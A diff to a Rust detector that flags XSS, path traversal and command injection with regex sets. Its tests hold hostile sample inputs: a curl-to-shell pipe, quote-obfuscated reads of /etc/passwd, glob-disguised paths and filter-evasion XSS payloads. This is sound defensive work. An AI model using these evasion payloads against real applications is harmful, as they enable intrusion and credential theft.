@@ -1,33 +1,40 @@
-//! Cross-site scripting, path traversal and OS command injection: small
-//! sets of anchored patterns over the decoded, lower-cased value. Each
-//! pattern needs syntax (a tag, an event handler, a `../` step, a shell
-//! separator followed by a command) rather than a word alone.
+//! Cross-site scripting, path traversal and OS command injection: sets of
+//! anchored patterns over the decoded, lower-cased value. Each pattern
+//! needs syntax (a tag, an event handler, a `../` step, a shell separator
+//! followed by a command) rather than a word alone. Before matching, the
+//! script patterns see the value without JavaScript comments, and the
+//! command patterns see it as a shell would after its quoting: `c'a't`,
+//! `c\at` and `c""at` are `cat`, `${IFS}` is a space.
 
-use std::sync::LazyLock;
+use std::{borrow::Cow, sync::LazyLock};
 
-use regex::RegexSet;
+use regex::{Regex, RegexSet};
 
 use crate::finding::Kind;
 
 struct Set {
     kind: Kind,
-    names: &'static [&'static str],
+    names: Vec<&'static str>,
     set: RegexSet,
 }
 
-fn set(kind: Kind, rules: &'static [(&'static str, &'static str)]) -> Set {
+fn set(kind: Kind, rules: &[(&'static str, &str)]) -> Set {
     Set {
         kind,
-        names: Box::leak(
-            rules
-                .iter()
-                .map(|(n, _)| *n)
-                .collect::<Vec<_>>()
-                .into_boxed_slice(),
-        ),
+        names: rules.iter().map(|(n, _)| *n).collect(),
         set: RegexSet::new(rules.iter().map(|(_, r)| *r)).expect("patterns compile"),
     }
 }
+
+/// Tools whose names are not English words: a command wherever it
+/// starts.
+const TOOLS: &str = "(?:cat|tac|ls|id|whoami|uname|ifconfig|netstat|wget|curl|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|tftp|rsync|bash|sh|zsh|dash|ksh|csh|tcsh|busybox|ping|traceroute|nslookup|dig|rm|rmdir|chmod|chown|chgrp|chattr|mkfifo|mknod|dd|tar|gzip|gunzip|zcat|bzip2|bunzip2|xz|unxz|unzip|7z|zstd|base64|base32|xxd|hexdump|strings|grep|egrep|fgrep|awk|gawk|sed|uniq|xargs|printenv|nohup|crontab|sudo|doas|passwd|useradd|usermod|python[0-9.]*|perl|ruby|php[0-9]*|node|nodejs|lua|javac|gcc|c89|c99|powershell|pwsh|cmd(?:\\.exe)?|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|schtasks|tasklist|taskkill|systeminfo|ipconfig|openssl|gpg|sendmail|systemctl|journalctl|lsof|strace|ltrace|gdb|vim?|nano|emacs|docker|kubectl|ansible(?:-playbook|-pull)?|chef-(?:client|shell|solo)|puppet|terraform|gcloud|apt-get|yum|dnf|apk|rpm|dpkg|md5sum|sha[0-9]+sum|readlink|realpath|getent|tclsh|irb|jrunscript|jshell|sqlite3|mysql|psql|redis-cli|nmap|masscan|iptables|nft|modprobe|insmod|chroot|setsid|pkexec)";
+/// Tools named like English words: a command only after a shell
+/// separator.
+const WORDS: &str = "(?:echo|printf|type|head|tail|more|less|find|sort|cut|tr|wc|tee|env|export|set|unset|alias|eval|exec|source|timeout|time|watch|at|su|kill|pkill|killall|ps|top|who|w|last|host|file|date|sleep|yes|seq|test|stat|basename|dirname|column|fold|comm|diff|cmp|paste|join|split|shuf|rev|expand|fmt|pr|iconv|mail|mount|umount|df|du|free|ed|ex|make|go|git|npm|pip|gem|apt|service|history|net|reg|sc|copy|del|dir|move|ren|start|rc|od|nl|ln|mv|cp|touch|mkdir|locate|logger|wall|write|finger|expect|ip|ss)";
+/// What follows a command name: the end, a separator, an option, a path,
+/// a variable, a quote, a URL.
+const ARGS: &str = r"(?:\s*$|\s*[;&|`)\n]|\s+[-/$'\x22`.~\\%]|\s+[a-z0-9_.-]+\s*[;&|`\n]|\s+[a-z0-9_.-]*\.(?:txt|sh|log|conf|py|pl|php|gz|zst|tar|zip)\b|\s+https?://|,)";
 
 static SETS: LazyLock<[Set; 3]> = LazyLock::new(|| {
     [
@@ -39,26 +46,41 @@ static SETS: LazyLock<[Set; 3]> = LazyLock::new(|| {
                     "event handler",
                     r"<[a-z][a-z0-9]*[\s/][^>]*\bon[a-z]{3,}\s*=",
                 ),
-                ("javascript url", r"(?:^|[\s'\x22=(])(?:java|vb)script\s*:"),
+                (
+                    "event handler attribute",
+                    r"[\x22'`/]\s*on[a-z]{3,}\s*=\s*[^\s=]|(?:^|\s)on(?:error|load|click|dblclick|auxclick|mouse[a-z]+|pointer[a-z]+|focus(?:in|out)?|blur|key(?:up|down|press)|submit|change|input|toggle|animation[a-z]+|transition[a-z]+|begin|end|scroll|wheel|drag[a-z]*|drop|play|pause|message|resize|select|show|start|copy|paste|cut|contextmenu|abort|beforeunload|unload|hashchange|popstate|pageshow|loadstart|canplay|seeked|webkit[a-z]+)\s*=\s*[^\s=]",
+                ),
+                (
+                    "javascript url",
+                    r"(?:^|[\s'\x22=(`])(?:j\s*a\s*v\s*a|v\s*b)\s*s\s*c\s*r\s*i\s*p\s*t\s*:",
+                ),
                 (
                     "active tag",
-                    r"<\s*(?:iframe|object|embed|svg|math|base|meta|link|style)\b",
+                    r"<\s*(?:iframe|object|embed|svg|math|base|meta|link|style|frameset|applet|isindex|marquee|xss|keygen)\b|<\s*(?:form|button|input|a|area|image|isindex)\b[^>]*\b(?:action|formaction|href|src)\s*=\s*['\x22]?\s*(?:java|vb)script:",
                 ),
                 (
                     "dom sink",
-                    r"document\s*\.\s*(?:cookie|write|location)|\beval\s*\(|\balert\s*\(",
+                    r"document\s*\.\s*(?:cookie|write|writeln|location|domain)|window\s*\.\s*location|\.(?:inner|outer)html\s*=|\beval\s*\(|\balert\s*\(|\bprompt\s*\(|\bconfirm\s*\(|\bsettimeout\s*\(\s*['\x22`]|\bfunction\s*\(\s*\)\s*\{",
                 ),
-                ("data url", r"data\s*:\s*text/html"),
+                (
+                    "obfuscated property call",
+                    r"(?:\bself|\btop|\bparent|\bwindow|\bglobalthis|\bframes|\bthis|\(\s*document\s*\)|\bdocument)\s*\[\s*['\x22`]|\[\s*\]\s*\.\s*[a-z]+\s*\.\s*call\s*`|\b[a-z_$][a-z0-9_$]*\s*`[^`]*\$\{|\(\s*!\s*\[\s*\]\s*\+?\s*\[\s*\]\s*\)|\[\s*!\s*\[\s*\]\s*\]",
+                ),
+                ("data url", r"data\s*:\s*text/html|data\s*:[^,]{0,60},\s*<"),
+                (
+                    "css script",
+                    r"expression\s*\(|url\s*\(\s*['\x22]?\s*(?:java|vb)script|-moz-binding|\bbehavior\s*:\s*url",
+                ),
             ],
         ),
         set(
             Kind::InjectionPathTraversal,
             &[
-                ("dot-dot step", r"(?:^|[/\\])\.\.+[/\\]"),
+                ("dot-dot step", r"(?:^|[/\\])\.\.+[/\\;]"),
                 ("dot-dot at end", r"[/\\]\.\.$"),
                 (
                     "system file",
-                    r"(?:^|[/\\])(?:etc[/\\](?:passwd|shadow|hosts|group)|proc[/\\]self[/\\]|windows[/\\]win\.ini|boot\.ini)",
+                    r"(?:^|[/\\])(?:etc[/\\](?:passwd|shadow|hosts|group|issue|crontab|sudoers)|proc[/\\](?:self|[0-9]+)[/\\]|windows[/\\](?:win\.ini|system32)|boot\.ini|sys[/\\](?:class|kernel|devices)\b)",
                 ),
                 ("nul byte", r"\x00"),
             ],
@@ -68,7 +90,11 @@ static SETS: LazyLock<[Set; 3]> = LazyLock::new(|| {
             &[
                 (
                     "separator and command",
-                    r"(?:^|[;&|`\n]|\$\()\s*(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|bash|sh|zsh|ping|rm|chmod|python[0-9.]*|perl|php|nslookup|powershell|cmd(?:\.exe)?|net\s+user|type|echo)(?:\s*$|\s*[;&|`)]|\s+[-/$'\x22`.~]|\s+https?://)",
+                    &format!(r"(?:^|[;&|`\n]|\$\()\s*(?:/(?:usr/)?(?:local/)?s?bin/)?{TOOLS}{ARGS}"),
+                ),
+                (
+                    "separator and shell word",
+                    &format!(r"(?:[;&|`\n]|\$\()\s*{WORDS}{ARGS}"),
                 ),
                 (
                     "command substitution",
@@ -76,19 +102,76 @@ static SETS: LazyLock<[Set; 3]> = LazyLock::new(|| {
                 ),
                 (
                     "shell path",
-                    r"/bin/(?:ba|z|da)?sh\b|\bcmd\.exe\b|\$\{ifs\}",
+                    r"/bin/(?:ba|z|da|k)?sh\b|\bcmd\.exe\b|\$\{ifs\}|\$ifs\b",
+                ),
+                (
+                    "shell glob path",
+                    r"/(?:etc|bin|usr|sbin|dev|proc|tmp|var|home|root)/[^\s]*(?:\[[^\]]+\]|\?)|/\?\?\?/|/\?+[a-z]*\?+(?:/|$)",
+                ),
+                (
+                    "windows command",
+                    r"\bfor\s+/[fdlr]\b|\bif\s+(?:not\s+)?(?:exist|defined|errorlevel)\b|\bif\s+\x22?%[^%\s]+%\x22?\s*(?:==|(?:gtr|lss|equ|neq|geq|leq)\b)|%comspec%|\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell(?:\.exe)?\s+-[a-z]",
                 ),
             ],
         ),
     ]
 });
 
-/// Every `(kind, shape)` pattern set the value matches.
-pub fn detect(lower: &str) -> Vec<(Kind, &'static str)> {
+/// The value without JavaScript comments (`/* ... */`).
+fn without_js_comments(s: &str) -> Cow<'_, str> {
+    if !s.contains("/*") {
+        return Cow::Borrowed(s);
+    }
+    static COMMENT: LazyLock<Regex> =
+        LazyLock::new(|| Regex::new(r"/\*.*?\*/").expect("pattern compiles"));
+    COMMENT.replace_all(s, " ")
+}
+
+/// The value as a shell reads it after quoting: quotes and backslashes
+/// gone, `$@` gone, `${IFS}` / `$IFS$9` a space.
+fn shell_words(s: &str) -> Cow<'_, str> {
+    if !s.contains(['\'', '"', '\\', '$']) {
+        return Cow::Borrowed(s);
+    }
+    static IFS: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"\$\{ifs\}|\$ifs(?:\$[0-9])?|\$@|\$\{[0-9]\}").expect("pattern compiles")
+    });
+    let spaced = IFS.replace_all(s, " ");
+    Cow::Owned(
+        spaced
+            .chars()
+            .filter(|c| !matches!(c, '\'' | '"' | '\\'))
+            .collect(),
+    )
+}
+
+/// Every `(kind, shape)` pattern set the value matches. `prose` is a
+/// free-text value (words and spaces in a body or header): there a `../`
+/// is a sentence's, and only a system file's name counts as traversal.
+pub fn detect(lower: &str, prose: bool) -> Vec<(Kind, &'static str)> {
+    let script = without_js_comments(lower);
+    let shell = shell_words(lower);
     SETS.iter()
         .filter_map(|s| {
-            let m = s.set.matches(lower);
-            m.iter().next().map(|i| (s.kind, s.names[i]))
+            let m = match s.kind {
+                Kind::InjectionXss => s.set.matches(&script),
+                Kind::InjectionCommand => {
+                    let m = s.set.matches(lower);
+                    if m.matched_any() {
+                        m
+                    } else {
+                        s.set.matches(&shell)
+                    }
+                }
+                _ => s.set.matches(lower),
+            };
+            m.iter()
+                .find(|i| {
+                    !(prose
+                        && s.kind == Kind::InjectionPathTraversal
+                        && s.names[*i] != "system file")
+                })
+                .map(|i| (s.kind, s.names[i]))
         })
         .collect()
 }
@@ -98,7 +181,7 @@ mod tests {
     use super::detect;
 
     fn kinds(v: &str) -> Vec<&'static str> {
-        detect(&v.to_ascii_lowercase())
+        detect(&v.to_ascii_lowercase(), false)
             .into_iter()
             .map(|(k, _)| k.name())
             .collect()
@@ -119,6 +202,25 @@ mod tests {
             ("$(id)", "injection_command"),
             ("`uname -a`", "injection_command"),
             ("a&&curl http://x/s|sh", "injection_command"),
+            ("; ex -c:\\!pwd", "injection_command"),
+            ("x;base64 --decode /etc/passwd", "injection_command"),
+            ("busybox -c \"echo hi\"", "injection_command"),
+            ("; c'a't /etc/pa's's'wd", "injection_command"),
+            (";c\\at${IFS}/etc/passwd", "injection_command"),
+            ("/usr/[a-z]in/bash", "injection_command"),
+            ("/???/??t /???/p??s??", "injection_command"),
+            ("FOR /F %%G IN ('dir') DO ECHO %%G", "injection_command"),
+            ("if %n1% gtr %n2% echo greater", "injection_command"),
+            ("\" onmouseover=\"alert(1)", "injection_xss"),
+            ("ja\tvascript:alert(1)", "injection_xss"),
+            ("self[/*foo*/\"alert\"](1)", "injection_xss"),
+            ("document /*x*/ . cookie", "injection_xss"),
+            ("(document)[\"cookie\"]", "injection_xss"),
+            ("[].map.call`${eval}`", "injection_xss"),
+            ("style=x:url(javascript:alert(1))", "injection_xss"),
+            ("data: , <x>", "injection_xss"),
+            ("window.location='//evil'", "injection_xss"),
+            ("<details open ontoggle=alert(1)>", "injection_xss"),
         ] {
             assert!(kinds(v).contains(&k), "{v}: {:?}", kinds(v));
         }
@@ -136,6 +238,20 @@ mod tests {
             "I like <b>bold</b> text",
             "the description is on file",
             "C# and F#",
+            "set the time; watch the date",
+            "Cats & dogs; cats are fine",
+            "1 + 1 = 2; we can test it",
+            "online=true",
+            "the ls of things",
+            "I'll cd the file (later)",
+            "for / against",
+            "if it fails, retry",
+            "what time is it?",
+            "see /etc for details",
+            "https://www.example.com/a/b?c=d",
+            "tags: <b>, <i> and <u>",
+            "/api/users/id",
+            "/docs/cat",
         ] {
             assert!(kinds(v).is_empty(), "{v}: {:?}", kinds(v));
         }
